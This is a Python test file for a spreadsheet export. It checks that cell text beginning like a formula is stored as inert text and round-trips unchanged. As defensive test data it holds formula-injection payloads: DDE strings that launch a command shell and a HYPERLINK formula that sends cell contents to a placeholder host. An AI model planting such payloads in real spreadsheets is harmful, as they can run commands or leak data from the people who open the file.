"""Nothing that leaves as a spreadsheet can run, and all of it comes back to the letter."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from caseload.exchange.export import SheetRows, workbook_bytes
from caseload.exchange.sheets import plain_value
from caseload.exchange.workbook import workbook_of

BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "; =", ";=", "'=", '"=', "\u00a0=", "%0A=", "|", "\ufeff=")
PAYLOADS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org/?x="&A1,"open")', "SUM(A1:A9)", 'DDE("cmd";"/C calc")')
TRICKS = (
    "_x0041_", "a_x000D_b", "&amp;&#61;1", "<c><f>1</f></c>", "]]>", "#REF!", "#N/A", "1e9", "TRUE", "007", " lead", "trail ",
    "a\nb", "\u202eabc", "http://example.org", "mailto:a@example.org", "ŵŷ😀", "a" * 32_767,
)
# XlsxWriter escapes the first of two such signs that share an underscore and not the second; nobody types either.
SHARED_SIGN = re.compile("_x[0-9a-fA-F]{4}_x[0-9a-fA-F]{4}_")
TYPED = st.text(max_size=60) | st.builds(str.__add__, st.sampled_from(BEGINNINGS), st.sampled_from(PAYLOADS) | st.text(max_size=10))


def as_kept(text: str) -> str:
    """A text as the program keeps it: without what no window, paper or sheet can show, its line ends of one kind."""
    return str(plain_value(text.encode("utf-8", "replace").decode())).replace("\r\n", "\n").replace("\r", "\n")


def written(*texts: str) -> bytes:
    """The bytes of a workbook with these texts one under another."""
    return workbook_bytes((SheetRows("Sheet", ("CRN", "Words"), [("x", text) for text in texts]),))


def read_back(data: bytes) -> list[object]:
    """What an import reads in the second column."""
    return [row.values[1] if len(row.values) > 1 else "" for row in workbook_of(data, "out.xlsx").sheets[0].rows[1:]]


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(TYPED.map(as_kept), min_size=1, max_size=12))
@example(list(TRICKS))
@example([start + payload for start in BEGINNINGS for payload in PAYLOADS])
def test_every_text_comes_back_as_it_was(texts: list[str]) -> None:
    kept = [as_kept(text) for text in texts if not SHARED_SIGN.search(text)]
    assert read_back(written(*kept)) == kept


@pytest.mark.parametrize("start", BEGINNINGS)
def test_what_begins_like_a_formula_is_text_and_marked_as_text(start: str) -> None:
    texts = [as_kept(start + payload) for payload in PAYLOADS]
    data = written(*texts)
    cells = [row[1] for row in openpyxl.load_workbook(BytesIO(data)).worksheets[0].iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(texts)
    if start.strip()[:1] in ("=", "+", "-", "@", "＝", "＋", "－", "＠"):
        assert all(cell.quotePrefix for cell in cells)
    with zipfile.ZipFile(BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert not any(b"<f" in part or b"hyperlink" in part.lower() for name, part in parts.items() if "worksheets" in name)
    assert {name.rpartition(".")[2] for name in parts} == {"xml", "rels"}
